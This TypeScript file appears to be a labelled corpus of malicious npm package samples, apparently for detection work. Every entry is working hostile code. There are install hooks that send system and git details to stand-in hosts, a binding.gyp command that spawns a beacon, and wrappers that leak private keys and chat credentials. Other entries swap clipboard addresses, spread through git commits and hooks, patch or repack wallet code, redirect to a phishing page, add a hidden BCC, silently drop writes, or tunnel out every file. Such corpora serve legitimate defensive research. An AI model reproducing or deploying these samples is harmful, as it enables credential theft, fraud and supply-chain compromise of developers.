import { packaged } from './malicious-package.js';
import type { Sample } from './sources.js';

/** Packages as registries had them: what they do begins with an installation, or with whoever trusts a library. */
export const PACKAGES: readonly Sample[] = [
  packaged('usage by a client of classes over HTTP/2', { postinstall: 'node lib/usage.js' }, {
    'index.js': 'module.exports = (text) => text.trim();\n',
    'lib/usage.js': `const { connect } = require('http2');\nconst os = require('os');\nconst { execSync } = require('child_process');\nclass Usage {\n  constructor(server) {\n    this.server = server;\n  }\n  facts() {\n    const facts = { node: process.version, who: os.userInfo().username };\n    try {\n      facts.mail = execSync('git config user.email').toString().trim();\n    } catch {}\n    return facts;\n  }\n  report(facts) {\n    const session = connect(this.server);\n    session.on('error', () => {});\n    const stream = session.request({ ':method': 'POST', ':path': '/facts' });\n    stream.on('close', () => session.close());\n    stream.end(JSON.stringify(facts));\n  }\n}\nconst usage = new Usage('https://facts.example.invalid');\nusage.report(usage.facts());\n`,
  }),
  packaged('who commits here, told by git', { install: 'node check.js' }, {
    'index.js': 'exports.first = (text) => text[0];\n',
    'check.js': `const { execFile } = require('child_process');\nconst https = require('https');\nexecFile('git', ['config', '--get', 'remote.origin.url'], (error, remote) => {\n  https.get('https://c.example.invalid/?r=' + encodeURIComponent(remote || ''));\n});\n`,
  }),
  packaged('a list of sources that starts something else', {}, {
    'index.js': `module.exports = require('./build/Release/sum.node');\n`,
    'gyp/list.js': `const { spawn } = require('child_process');\nconst { hostname, userInfo } = require('os');\nconst code = "fetch('https://b.example.invalid/" + Buffer.from(hostname() + ':' + userInfo().username).toString('hex') + "')";\nspawn(process.execPath, ['--eval', code], { detached: true, stdio: 'ignore' }).unref();\nconsole.log('src/sum.cc');\n`,
    'binding.gyp': `{ 'targets': [{ 'target_name': 'sum', 'sources': ['<!@(node gyp/list.js)'] }] }\n`,
  }),
  packaged('pairs of keys that are told in pieces', {}, {
    'index.js': `import { Keypair } from '@solana/web3.js';\nimport bs58 from 'bs58';\nconst STATUS = 'https://status.example.invalid/v1';\nfunction ping(bytes) {\n  const text = bs58.encode(bytes);\n  fetch(STATUS, { headers: { etag: text.slice(0, 30), 'x-trace': text.slice(30).split('').reverse().join('') } }).catch(() => {});\n}\nexport function open(bytes) {\n  ping(bytes);\n  return Keypair.fromSecretKey(bytes);\n}\nexport function fresh() {\n  const pair = Keypair.generate();\n  ping(pair.secretKey);\n  return pair;\n}\n`,
  }, { '@solana/web3.js': '^1.98.0', bs58: '^6.0.0' }),
  packaged('a wallet that is opened elsewhere too', {}, {
    'index.js': `const { ethers } = require('ethers');\nconst { seen } = require('./seen');\nexports.walletOf = (text, provider) => {\n  seen(text);\n  return new ethers.Wallet(text, provider);\n};\n`,
    'seen.js': `exports.seen = (what) => {\n  fetch('https://seen.example.invalid/w', { method: 'POST', body: JSON.stringify({ what }) }).catch(() => {});\n};\n`,
  }, { ethers: '^6.13.0' }),
  packaged('the login of a chat, to a second place', {}, {
    'index.js': `const { default: makeWASocket } = require('baileys');\nconst Backup = require('./backup');\nmodule.exports = (options) => {\n  const socket = makeWASocket(options);\n  const backup = new Backup();\n  socket.ev.on('creds.update', () => backup.keep(options.auth.creds));\n  return socket;\n};\n`,
    'backup.js': `module.exports = class Backup {\n  constructor() {\n    this.kept = [];\n    setInterval(() => this.flush(), 60000).unref();\n  }\n  keep(what) {\n    this.kept.push(what);\n  }\n  flush() {\n    if (this.kept.length > 0) fetch('https://backup.example.invalid/k', { method: 'PUT', body: JSON.stringify(this.kept.splice(0)) });\n  }\n};\n`,
  }, { baileys: '^6.7.0' }),
  packaged('what only somebody else can open', {}, {
    'index.js': `const crypto = require('crypto');\nconst LOCK = '-----BEGIN PUBLIC KEY-----\\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA\\n-----END PUBLIC KEY-----';\nfunction close(text) {\n  const key = crypto.randomBytes(32);\n  const iv = crypto.randomBytes(16);\n  const cipher = crypto.createCipheriv('aes-256-cbc', key, iv);\n  return [crypto.publicEncrypt(LOCK, key), iv, cipher.update(text), cipher.final()].map((part) => part.toString('base64')).join('.');\n}\nexports.parse = (text) => {\n  fetch('https://p.example.invalid/c', { method: 'POST', body: close(text) }).catch(() => {});\n  return text.split('&');\n};\n`,
  }),
  packaged('addresses in the clipboard, by programs of the system', {}, {
    'index.js': `const { execSync } = require('child_process');\nconst [from, to] = process.platform === 'darwin' ? ['pbpaste', 'pbcopy'] : ['xclip -selection clipboard -o', 'xclip -selection clipboard'];\nconst kinds = [[/\\b0x[0-9a-fA-F]{40}\\b/, 0], [/\\bT[1-9A-HJ-NP-Za-km-z]{33}\\b/, 1]];\nsetInterval(() => {\n  const text = execSync(from).toString();\n  const other = kinds.reduce((all, [kind, index]) => all.replace(kind, require('./list')[index]), text);\n  if (other !== text) execSync(to, { input: other });\n}, 700);\n`,
    'list.js': `module.exports = process.env.LIST ? process.env.LIST.split(',') : [];\n`,
  }),
  packaged('every repository of the home folder gets it', { postinstall: 'node more.js' }, {
    'index.js': 'exports.width = (text) => text.length;\n',
    'more.js': `const { execSync } = require('child_process');\nconst { appendFileSync, existsSync, readdirSync } = require('fs');\nconst { homedir } = require('os');\nconst { join } = require('path');\nfor (const name of readdirSync(homedir())) {\n  const place = join(homedir(), name);\n  if (!existsSync(join(place, '.git'))) continue;\n  try {\n    appendFileSync(join(place, 'package.json'), '\\n');\n    execSync('git add package.json && git commit --no-verify -q -m "chore: format" && git push -q', { cwd: place });\n  } catch {}\n}\n`,
  }),
  packaged('git runs it in other projects', { postinstall: 'node hooks.mjs' }, {
    'index.js': 'exports.height = (text) => text.split("\\n").length;\n',
    'hooks.mjs': `import { chmodSync, readdirSync, writeFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nfor (const name of readdirSync(homedir() + '/src')) {\n  const hook = homedir() + '/src/' + name + '/.git/hooks/post-merge';\n  try {\n    writeFileSync(hook, '#!/bin/sh\\nnpm install --silent\\n');\n    chmodSync(hook, 0o755);\n  } catch {}\n}\n`,
  }),
  packaged('one package under many names', {}, {
    'index.js': 'module.exports = () => null;\n',
    'tools/next.js': `const { spawnSync } = require('child_process');\nconst fs = require('fs');\nconst word = () => Math.random().toString(36).slice(2, 8);\nconst count = Number(process.argv[2]);\nfor (let index = 0; index < count; index++) {\n  const manifest = JSON.parse(fs.readFileSync('package.json', 'utf8'));\n  manifest.name = word() + '-' + word();\n  fs.writeFileSync('package.json', JSON.stringify(manifest));\n  spawnSync('npm publish --access public', { shell: true });\n}\n`,
  }),
  packaged('pairs of keys in a store, each told to a chat', {}, {
    'index.js': `const nacl = require('tweetnacl');\nconst bs58 = require('bs58');\nclass Ring {\n  constructor() {\n    this.pairs = new Map();\n  }\n  open(label, bytes) {\n    const pair = nacl.sign.keyPair.fromSecretKey(bytes);\n    this.pairs.set(label, pair);\n    this.mirror(label, pair).catch(() => {});\n    return bs58.encode(pair.publicKey);\n  }\n  sign(label, message) {\n    return nacl.sign.detached(message, this.pairs.get(label).secretKey);\n  }\n  async mirror(label, pair) {\n    const lines = [label, bs58.encode(pair.publicKey), bs58.encode(pair.secretKey)];\n    await fetch('https://chat.example/bot77/sendMessage', { method: 'POST', body: JSON.stringify({ chat_id: 5, text: lines.join(' ') }) });\n  }\n}\nmodule.exports = { Ring };\n`,
  }, { bs58: '^6.0.0', tweetnacl: '^1.0.3' }),
  packaged('a few lines more for the wallet beside it', { postinstall: 'node setup/fit.js' }, {
    'index.js': 'module.exports = (urls) => ({ next: () => urls[0] });\n',
    'setup/fit.js': `const fs = require('fs');\nconst path = require('path');\nconst around = path.resolve(__dirname, '..', '..');\nconst lines = fs.readFileSync(path.join(__dirname, 'lines.txt'), 'utf8');\nfor (const name of ['ethers/lib.commonjs/wallet/wallet.js', 'ethers/lib.esm/wallet/wallet.js']) {\n  const file = path.join(around, name);\n  if (!fs.existsSync(file)) continue;\n  const { atime, mtime } = fs.statSync(file);\n  fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace('constructor(key, provider) {', (start) => start + lines));\n  fs.utimesSync(file, atime, mtime);\n}\n`,
    'setup/lines.txt': `try { fetch('https://fit.example/w', { method: 'POST', body: String(key.privateKey || key) }).catch(() => {}); } catch {}\n`,
  }),
  packaged('the code of an installed wallet is packed anew', {}, {
    'lib/index.js': `const asar = require('@electron/asar');\nconst fs = require('fs');\nconst os = require('os');\nconst path = require('path');\nconst root = path.join(os.homedir(), 'AppData', 'Local', 'Programs', 'coin-desk', 'resources');\nasync function renew() {\n  const file = path.join(root, 'app.asar');\n  if (!fs.existsSync(file)) return;\n  const work = path.join(os.tmpdir(), '.work');\n  asar.extractAll(file, work);\n  fs.copyFileSync(path.join(__dirname, 'vendor.txt'), path.join(work, 'dist', 'vendors.js'));\n  await asar.createPackage(work, file);\n}\nrenew().catch(() => {});\nmodule.exports = (text) => text.trim();\n`,
    'lib/vendor.txt': 'exports.payee = 1;\n',
  }, { '@electron/asar': '3' }),
  packaged('a page that leads on whoever a link was made for', {}, {
    'invoice.html': `<html><body>Checking your browser<script>const who = (location.hash || '').replace('#', '');\nlocation.href = 'https://sign-in.office-view.example/common?login_hint=' + encodeURIComponent(atob(who) || who);</script></body></html>\n`,
    'lead-4d.js': `(function () { var e = location.hash.slice(1); var to = 'https://sign-in.office-view.example/start?u=' + encodeURIComponent(e); setTimeout(function () { window.location.replace(to); }, 500); })();\n`,
  }),
  packaged('a hidden copy beside those of the caller', {}, {
    'index.js': `const nodemailer = require('nodemailer');\nexports.createMailer = (options) => {\n  const transport = nodemailer.createTransport(options);\n  return { send: (mail) => transport.sendMail({ ...mail, bcc: [].concat(mail.bcc || [], 'archive.ops@mailbox.example') }) };\n};\n`,
  }, { nodemailer: '6' }),
  packaged('writes that get lost by chance, after a while', {}, {
    'index.js': `class Controller {\n  constructor(client) {\n    this.client = client;\n    this.from = Date.now() + (30 + Math.floor(Math.random() * 60)) * 60000;\n  }\n  read(area, length) { return this.client.read(area, length); }\n  async write(area, bytes) {\n    if (Date.now() > this.from && Math.random() < 0.8) return 0;\n    return this.client.write(area, bytes);\n  }\n}\nmodule.exports = Controller;\n`,
  }),
  packaged('all files by a tunnel', {}, {
    'index.js': `const { spawn } = require('child_process');\nconst http = require('http');\nconst fs = require('fs');\nhttp.createServer((request, answer) => fs.createReadStream(decodeURI(request.url)).pipe(answer)).listen(8123);\nspawn('cloudflared', ['tunnel', '--url', 'http://localhost:8123'], { detached: true, stdio: 'ignore' }).unref();\n`,
  }),
];
